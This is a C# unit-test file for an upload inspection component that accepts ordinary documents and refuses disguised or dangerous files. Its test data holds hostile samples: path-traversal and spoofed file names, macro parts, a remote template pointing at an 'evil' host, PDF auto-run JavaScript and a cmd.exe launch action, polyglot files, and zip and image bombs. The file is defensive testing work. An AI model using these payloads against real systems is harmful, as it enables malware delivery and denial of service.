using System.Text;
using ScoEvents.Domain.Documents;
using Xunit;

namespace ScoEvents.Domain.Tests.Documents;

public sealed class FileInspectionTests
{
    private const string Word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    public static TheoryData<string, byte[], string> Good() => new()
    {
        { "Report.pdf", SampleFiles.Pdf(), "application/pdf" },
        { "Packed.PDF", SampleFiles.PdfWithObjectStream("1 0 << /Type /Catalog >>"u8.ToArray()), "application/pdf" },
        { "Доклад.docx", SampleFiles.Docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
        { "表.xlsx", SampleFiles.Xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
        { "प्रस्तुति.pptx", SampleFiles.Pptx(), "application/vnd.openxmlformats-officedocument.presentationml.presentation" },
        { "متن.odt", SampleFiles.OpenDocument("text"), "application/vnd.oasis.opendocument.text" },
        { "a.odp", SampleFiles.OpenDocument("presentation", ("Object 1/content.xml", "<chart/>")), "application/vnd.oasis.opendocument.presentation" },
        { "a.ods", SampleFiles.OpenDocument("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet" },
        { "notes.v2.txt", Encoding.UTF8.GetBytes("Заметки\r\n\tв две строки, 1 < 2"), "text/plain; charset=utf-8" },
        { "bom.txt", [0xEF, 0xBB, 0xBF, (byte)'a'], "text/plain; charset=utf-8" },
        { "plan.png", SampleFiles.Png(), "image/png" },
        { "photo.jpg", SampleFiles.Jpeg(), "image/jpeg" },
        { "photo.jpeg", SampleFiles.Jpeg(), "image/jpeg" },
    };

    [Theory]
    [MemberData(nameof(Good))]
    public void A_file_of_a_known_type_is_taken_under_its_name(string name, byte[] content, string type)
    {
        var inspected = FileInspection.Inspect(name, content);

        Assert.Null(inspected.Error?.Code);
        Assert.Equal(new InspectedFile(name, type), inspected.Value);
    }

    public static TheoryData<string, byte[], string> Lies() => new()
    {
        { "a.pdf", [], "document.empty" },
        { "a.pdf", Encoding.UTF8.GetBytes("MZ\u0000\u0001"), "document.unknown-type" },
        { "a.exe", [0x4D, 0x5A, 0x90, 0x00], "document.unknown-type" },
        { "a.svg", Encoding.UTF8.GetBytes("<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"), "document.unknown-type" },
        { "a.html", Encoding.UTF8.GetBytes("hello"), "document.unknown-type" },
        { "a.gif", Encoding.UTF8.GetBytes("GIF89a"), "document.unknown-type" },
        { "a.txt", Encoding.UTF8.GetBytes("  <!DOCTYPE html><script>1</script>"), "document.unknown-type" },
        { "a.txt", Encoding.UTF8.GetBytes("<svg onload=1>"), "document.unknown-type" },
        { "a.txt", Encoding.UTF8.GetBytes("#!/bin/sh"), "document.unknown-type" },
        { "a.txt", Encoding.UTF8.GetBytes("{\\rtf1"), "document.unknown-type" },
        { "a.txt", [(byte)'a', 0x00, (byte)'b'], "document.unknown-type" },
        { "a.txt", [0xCF, 0xF0, 0xE8], "document.not-utf8" },
        { "a.docx", SampleFiles.Pdf(), "document.lying-ending" },
        { "a.pdf", SampleFiles.Docx(), "document.lying-ending" },
        { "a.txt", SampleFiles.Pdf(), "document.lying-ending" },
        { "a.docx", SampleFiles.Xlsx(), "document.lying-ending" },
        { "a.png", SampleFiles.Jpeg(), "document.lying-ending" },
        { "a.docm", SampleFiles.Docx(), "document.lying-ending" },
        { "a.zip", SampleFiles.Zip(("a.txt", "a")), "document.unknown-type" },
        { "a.docx", SampleFiles.Zip(("word/document.xml", "<w/>")), "document.unknown-type" },
        { "a.odt", SampleFiles.Zip(("mimetype", "application/vnd.oasis.opendocument.text")), "document.damaged" },
        { "a.odt", SampleFiles.OpenDocument("graphics"), "document.unknown-type" },
    };

    [Theory]
    [MemberData(nameof(Lies))]
    public void A_file_that_is_not_what_it_says_is_refused(string name, byte[] content, string code) => AssertRefused(name, content, code);

    public static TheoryData<string> BadNames() =>
    [
        "../a.pdf", "..\\a.pdf", "C:\\temp\\a.pdf", "/etc/a.pdf", "a/b.pdf", ".pdf", "a", "a.", "", "a..pdf", "a\u0000.pdf", "a\r\nX: y.pdf", "gpj\u202Efdp.pdf", "a\u200Bb.pdf",
        "a\"b.pdf", "a<b>.pdf", "CON:.pdf", new string('a', 197) + ".pdf",
    ];

    [Theory]
    [MemberData(nameof(BadNames))]
    public void A_name_with_a_path_or_with_hidden_characters_is_refused(string name) => AssertRefused(name, SampleFiles.Pdf(), "document.bad-name");

    [Fact]
    public void The_largest_file_is_taken_and_one_byte_more_is_refused()
    {
        var largest = new byte[FileInspection.MaxSize];
        Array.Fill(largest, (byte)'a');

        Assert.True(FileInspection.Inspect("a.txt", largest).IsSuccess);
        AssertRefused("a.txt", [.. largest, (byte)'a'], "document.too-large");
    }

    public static TheoryData<string, byte[]> Programs() => new()
    {
        { "a.docx", SampleFiles.Docx(("word/vbaProject.bin", "macro")) },
        { "a.docx", SampleFiles.Docx(("word/VBAPROJECT.BIN", "macro")) },
        { "a.docx", SampleFiles.Office("application/vnd.ms-word.document.macroEnabled.main+xml") },
        { "a.docx", SampleFiles.Docx(("word/activeX/activeX1.bin", "control")) },
        { "a.docx", SampleFiles.Docx(("word/embeddings/oleObject1.bin", "package")) },
        { "a.docx", SampleFiles.Docx(("word/media/run.exe", "MZ")) },
        { "a.docx", SampleFiles.Docx(("word/_rels/settings.xml.rels", "<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil/t.dotm\" TargetMode=\"External\"/></Relationships>")) },
        { "a.odt", SampleFiles.OpenDocument("text", ("Basic/Standard/Module1.xml", "Sub")) },
        { "a.odt", SampleFiles.OpenDocument("text", ("Scripts/python/run", "import os")) },
        { "a.pdf", SampleFiles.Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>") },
        { "a.pdf", SampleFiles.Pdf("/OpenAction << /S /#4a#61vaScr#69pt /JS (app.alert(1)) >>") },
        { "a.pdf", SampleFiles.Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>") },
        { "a.pdf", SampleFiles.Pdf("/Names << /EmbeddedFiles 9 0 R >>") },
        { "a.pdf", SampleFiles.Pdf("/AcroForm << /XFA [ (x) ] >>") },
        { "a.pdf", SampleFiles.PdfWithObjectStream("1 0 << /S /JavaScript >>"u8.ToArray()) },
        { "a.pdf", SampleFiles.PdfWithObjectStream("1 0 << /S /JavaScript >>"u8.ToArray(), "/Type /Nothing /N 1 /#46irst 4 /Filter [/FlateDecode]") },
    };

    [Theory]
    [MemberData(nameof(Programs))]
    public void A_file_with_a_program_inside_is_refused(string name, byte[] content) => AssertRefused(name, content, "document.active");

    public static TheoryData<string, byte[], string> Traps() => new()
    {
        { "a.pdf", [.. SampleFiles.Pdf(), .. SampleFiles.Zip(("evil.jar", "x"))], "document.two-types" },
        { "a.pdf", SampleFiles.Pdf(after: "<script>alert(1)</script>"), "document.two-types" },
        { "a.png", [.. SampleFiles.Png(), .. SampleFiles.Zip(("a.txt", "a"))], "document.two-types" },
        { "a.png", [.. SampleFiles.Png(), (byte)'x'], "document.two-types" },
        { "a.jpg", [.. SampleFiles.Jpeg(), .. "<?php"u8], "document.two-types" },
        { "a.docx", [.. SampleFiles.Docx(), .. "tail"u8], "document.damaged" },
        { "a.docx", SampleFiles.Zip(("[Content_Types].xml", "x"), ("%PDF-1.7", "x")), "document.two-types" },
        { "a.txt", [.. "\n\n"u8, .. SampleFiles.Pdf()], "document.two-types" },
        { "a.pdf", "%PDF-1.7\n1 0 obj"u8.ToArray(), "document.damaged" },
        { "a.pdf", SampleFiles.Pdf("/Encrypt 9 0 R"), "document.encrypted" },
        { "a.pdf", SampleFiles.PdfWithObjectStream([1, 2, 3], isPacked: false), "document.damaged" },
        { "a.pdf", SampleFiles.PdfWithObjectStream([1], "/Type /ObjStm /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"), "document.damaged" },
        { "a.pdf", SampleFiles.PdfBomb(), "document.bomb" },
        { "a.docx", SampleFiles.ZipBomb(), "document.bomb" },
        { "a.docx", SampleFiles.Docx(("../evil.xml", "x")), "document.damaged" },
        { "a.docx", SampleFiles.Docx(("main.xml", "twice")), "document.damaged" },
        { "a.docx", SampleFiles.Zip(("[Content_Types].xml", "<!DOCTYPE x [<!ENTITY a \"b\">]><Types>&a;</Types>")), "document.damaged" },
        { "a.docx", SampleFiles.Docx()[..^30], "document.damaged" },
        { "a.odt", SampleFiles.Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", "<m><file-entry><encryption-data/></file-entry></m>")), "document.encrypted" },
        { "a.png", SampleFiles.Png(20_000, 20_000), "document.bomb" },
        { "a.png", SampleFiles.Png()[..^12], "document.damaged" },
        { "a.jpg", SampleFiles.Jpeg(20_000, 20_000), "document.bomb" },
        { "a.jpg", SampleFiles.Jpeg()[..^2], "document.damaged" },
        { "a.docx", SampleFiles.Office(Word, ("word/document.xml", "x"))[..40], "document.damaged" },
    };

    [Theory]
    [MemberData(nameof(Traps))]
    public void A_trap_is_refused(string name, byte[] content, string code) => AssertRefused(name, content, code);

    [Fact]
    public void A_directory_that_lies_about_sizes_does_not_hide_a_bomb()
    {
        var bomb = SampleFiles.ZipBomb();
        var size = BitConverter.GetBytes(301 * 1024 * 1024);
        for (var at = bomb.AsSpan().IndexOf(size); at >= 0; at = bomb.AsSpan().IndexOf(size))
        {
            BitConverter.GetBytes(10).CopyTo(bomb, at);
        }

        AssertRefused("a.docx", bomb, "document.bomb");
    }

    private static void AssertRefused(string name, byte[] content, string code)
    {
        var inspected = FileInspection.Inspect(name, content);

        Assert.Equal([("File", code)], inspected.Errors.Select(error => (error.Field, error.Code)));
    }
}
